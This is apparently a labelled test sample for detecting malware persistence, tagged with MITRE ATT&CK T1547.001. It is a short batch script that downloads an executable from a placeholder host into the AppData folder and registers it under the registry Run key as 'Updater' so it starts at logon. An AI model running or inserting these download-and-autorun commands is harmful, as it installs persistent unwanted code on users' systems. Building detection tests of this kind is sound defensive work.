@rem expect: persistence | source: MITRE ATT&CK T1547.001
curl -s -o %APPDATA%\upd.exe http://files.example.invalid/upd.exe
reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d %APPDATA%\upd.exe /f
